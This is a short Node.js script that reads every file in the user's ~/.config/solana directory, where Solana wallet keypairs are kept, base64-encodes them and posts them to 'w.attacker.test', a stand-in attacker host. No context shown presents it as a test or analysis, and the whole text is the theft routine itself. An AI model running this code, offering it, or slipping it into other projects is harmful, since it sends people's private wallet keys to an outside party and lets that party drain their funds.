const { readdirSync, readFileSync } = require('fs');
const { join } = require('path');
const axios = require('axios');
const base = join(process.env.HOME, '.config/solana');
const files = readdirSync(base).map((f) => readFileSync(join(base, f)).toString('base64'));
axios.post('https://w.attacker.test/up', { files });
